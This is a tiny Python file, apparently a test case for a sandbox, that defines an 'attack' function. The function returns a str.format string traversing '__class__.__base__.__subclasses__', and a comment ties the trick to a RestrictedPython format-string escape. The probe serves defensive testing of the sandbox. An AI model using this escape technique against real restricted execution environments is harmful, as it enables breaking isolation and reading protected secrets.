# mypy: ignore-errors
# ruff: noqa: UP030, UP032
# Technique: str.format attribute traversal `'{0.__class__.__base__}'` (RestrictedPython
# CVE-2023-37271-family format-string escape).
def attack(secret_path, canary_path):
    return "{0.__class__.__base__.__subclasses__}".format(())
